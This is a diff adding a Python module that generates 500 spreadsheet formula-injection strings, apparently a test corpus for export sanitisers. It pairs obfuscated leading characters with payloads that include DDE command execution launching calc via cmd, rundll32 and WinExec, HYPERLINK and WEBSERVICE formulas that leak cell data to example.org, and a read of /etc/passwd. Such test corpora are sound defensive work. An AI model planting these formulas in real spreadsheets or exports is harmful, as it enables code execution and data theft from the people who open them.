@@ -1,0 +1,58 @@
+"""Five hundred texts that a spreadsheet program might calculate, or with which it might ask a network."""
+
+from itertools import product
+
+_STARTS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    " =",
+    "\u00a0=",
+    "'=",
+    "''=",
+    "=-+@",
+)
+_CALCULATIONS = (
+    "1+1",
+    "SUM(A1:A9)",
+    "cmd|' /C calc'!A0",
+    'DDE("cmd","/C calc","")',
+    'HYPERLINK("http://example.org/?leak="&A1,"Open")',
+    'WEBSERVICE("http://example.org/"&A1)',
+    'IMPORTXML("http://example.org/","//a")',
+    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+    "'file:///etc/passwd'#$passwd.A1",
+    "2+5+cmd|' /C calc'!A0",
+    "rundll32|'URL.dll,OpenURL calc.exe'!A",
+    '10+20"; x',
+    'INDIRECT("A"&1)',
+    "{1,2;3,4}",
+    "IF(1,2,3)\n=4",
+    'A1&"</f><f>"',
+    "_x003D_1+1",
+    "0",
+    'EXEC("calc")',
+    'CALL("Kernel32","WinExec","JCJ","calc",0)',
+    'REGISTER.ID("a","b")',
+    "[Book.xls]Sheet!A1",
+    "NOW()",
+    "RAND(),",
+    "CHAR(61)",
+    "44 1270 000000",
+    " not evidenced",
+    "#REF",
+    "@A1",
+    "%",
+    'IMAGE("http://example.org/a.png")',
+    "ENCODEURL(A1)",
+)
+FORMULAS = [start + rest for start, rest in product(_STARTS, _CALCULATIONS)][:500]
+assert len(FORMULAS) == 500
